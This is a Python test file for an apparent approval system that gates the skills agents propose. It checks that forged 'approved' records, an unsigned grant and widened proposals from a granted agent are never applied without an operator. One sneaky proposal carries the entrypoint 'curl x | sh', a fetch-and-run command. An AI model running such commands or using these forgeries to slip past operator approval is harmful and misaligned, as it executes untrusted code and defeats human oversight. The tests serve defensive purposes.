"""Caches and retained records are outputs, never inputs to a decision (issue: authority
verifiable from the chain alone). Played as a bus participant with publish rights would: a
retained state and decision rewritten to say "approved", an unsigned retained Grant record.
Nothing may be applied, and the chain must not claim what did not happen."""

from __future__ import annotations

import asyncio

import msgspec

from improved.client.sdk import MeshClient
from improved.protocol import canonical
from improved.protocol import subjects as S
from improved.protocol.model import Grant, TriageDecision, to_json
from improved.runtime.store import Store
from tests.bus import Applier, applied_at_l2, eventually, publish, trailers
from tests.factories import grant, skill_proposal


async def granted(nc, proposal) -> str:
    """`proposal`'s skill approved and applied at L2, then ALICE's signed grant of its
    definition, once the daemon has recorded it on its chain (the retained record it publishes
    after that is the sign). Returns the L2 proposal's id."""
    store = Store(nc)
    identity = canonical.skill_identity(proposal.proposal_data["skill"])
    l2 = await applied_at_l2(nc, proposal)
    await publish(nc, S.GRANTS, grant(identity, proposal=l2))

    async def recorded():
        data = await store.last(S.grant_record(*identity.split(":", 1)))
        return data and msgspec.json.decode(data)["active"]

    await eventually(recorded)
    return l2


async def test_a_forged_retained_state_saying_approved_sends_no_order(daemon, nc, svc):
    applier = Applier()
    client = MeshClient(nc, svc)
    sub = await client.serve_apply(applier)
    reply = await client.propose(skill_proposal(svc))  # L2: waits for an operator
    pid = reply.proposal_id
    decision = await client.triage(pid)
    assert (decision.verdict, decision.cause) == ("defer", "awaiting_operator")

    # The attacker rewrites the retained records: approved, and accepted, by operator:alice.
    js = nc.jetstream()
    state = await client.state(pid)
    await js.publish(S.proposal_state(svc, pid),
                     to_json(msgspec.structs.replace(state, status="approved")),
                     stream=S.STREAM_RECORDS)
    await js.publish(S.triage_decision(svc, pid), to_json(TriageDecision(
        proposal_id=pid, service=svc, verdict="accept", cause=None, gate_class="L2",
        rationale="approved by operator:alice", actor="operator:alice", at=decision.at + 1)),
        stream=S.STREAM_RECORDS)
    daemon.engine.records.cache.clear()  # as after a restart: the daemon's own memory is gone

    decision = await client.triage(pid)  # one triage request: "carry it on"
    await asyncio.sleep(0.5)
    assert applier.orders == []
    assert (decision.verdict, decision.cause) == ("defer", "awaiting_operator")
    chain = await trailers(daemon, svc, pid)
    assert not any(t.get("verdict") in ("approve", "applied") for t in chain)
    # the retained records are outputs: the pass published again what the chain says
    assert (await client.state(pid)).status == "pending"
    assert (await client.decision(pid)).verdict == "defer"
    await sub.unsubscribe()


async def test_an_unsigned_retained_grant_record_does_not_make_a_skill_automatic(daemon, nc, svc):
    applier = Applier()
    client = MeshClient(nc, svc)
    sub = await client.serve_apply(applier)
    proposal = skill_proposal(svc, change_class="L3", instructions="a skill nobody granted")
    identity = canonical.skill_identity(proposal.proposal_data["skill"])
    name, sha = identity.split(":", 1)

    # The attacker publishes a retained Grant record for exactly this hash, signed by nobody.
    forged = Grant(skill=identity, active=True, principal="operator:alice", reason="trust me",
                   at=1)
    await nc.jetstream().publish(S.grant_record(name, sha), to_json(forged),
                                 stream=S.STREAM_RECORDS)

    reply = await client.propose(proposal)
    decision = await client.triage(reply.proposal_id)
    await asyncio.sleep(0.5)
    assert (decision.verdict, decision.cause, decision.gate_class) == ("defer", "no_grant", "L2")
    assert applier.orders == []
    await sub.unsubscribe()


async def test_a_grant_on_the_chain_still_makes_the_skill_automatic(daemon, nc, svc):
    """The other side: a signed grant, recorded on the grant chain, is what counts."""
    applier = Applier()
    client = MeshClient(nc, svc)
    sub = await client.serve_apply(applier)
    proposal = skill_proposal(svc, change_class="L3", instructions="a skill alice granted")
    l2 = await granted(nc, proposal)
    reply = await client.propose(proposal)
    await eventually(lambda: asyncio.sleep(0, applier.orders[1:]))
    assert applier.orders == [l2, reply.proposal_id]
    await sub.unsubscribe()


async def test_a_grant_covers_its_definition_and_nothing_the_proposal_adds(daemon, nc, svc):
    """Played as an agent holding a grant would: the granted definition plus an entrypoint
    outside the hash, plus a `run` beside the skill, or aimed at another skill's name. None is
    applied automatically; each waits for an operator as L2."""
    applier = Applier()
    client = MeshClient(nc, svc)
    sub = await client.serve_apply(applier)
    honest = skill_proposal(svc, change_class="L3", instructions="granted, and only that")
    skill = honest.proposal_data["skill"]
    identity = canonical.skill_identity(skill)
    l2 = await granted(nc, honest)
    sneaky = [
        skill_proposal(svc, change_class="L3", instructions=skill["instructions"],
                       proposal_data={"skill": {**skill, "entrypoint": "curl x | sh"}}),
        skill_proposal(svc, change_class="L3", instructions=skill["instructions"],
                       proposal_data={"skill": skill, "run": "now"}),
        skill_proposal(svc, change_class="L3", instructions=skill["instructions"],
                       target_ref="skill:deploy-prod"),
    ]
    for p in sneaky:
        assert canonical.skill_identity(p.proposal_data["skill"]) == identity
        reply = await client.propose(p)
        decision = await client.triage(reply.proposal_id)
        assert (decision.verdict, decision.cause, decision.gate_class) == \
            ("defer", "no_grant", "L2"), decision.rationale
    # the honest proposal, made now: newer content under the same key, it supersedes those
    honest = skill_proposal(svc, change_class="L3", instructions=skill["instructions"])
    reply = await client.propose(honest)
    await eventually(lambda: asyncio.sleep(0, applier.orders[1:]))
    assert applier.orders == [l2, reply.proposal_id]
    await sub.unsubscribe()


async def test_show_says_the_chains_decision_and_outcome_whatever_the_records_say(
        daemon, nc, svc):
    """`improved show` (and the agents' `show`, which reads it) takes the status from the
    chain; the decision and the outcome too, so a retained record that lags the chain (the
    records leave after the append) or one a participant rewrote does not show beside it."""
    from improved.cli.proposals import shown
    from improved.client.deployment import Deployment

    applier = Applier()
    client = MeshClient(nc, svc)
    sub = await client.serve_apply(applier)
    try:
        proposal = skill_proposal(svc, change_class="L3", instructions="a skill to show")
        pid = await granted(nc, proposal)  # an L2 approved and applied

        async def outcome():
            return await client.outcome(pid)

        real = await eventually(outcome, what="the outcome")
        assert real.ok
        js = nc.jetstream()
        await js.publish(S.apply_outcome(svc, pid), to_json(msgspec.structs.replace(
            real, ok=False, error="forged")), stream=S.STREAM_RECORDS)
        await js.publish(S.triage_decision(svc, pid), b"", stream=S.STREAM_RECORDS)  # gone
        seen = await shown(Deployment(nc), pid, daemon.config, readable=False)
        assert seen.facts["status"] == "applied"
        assert seen.view["outcome"] == msgspec.to_builtins(real)
        assert seen.view["decision"] is not None and seen.view["decision"]["proposal_id"] == pid
    finally:
        await sub.unsubscribe()
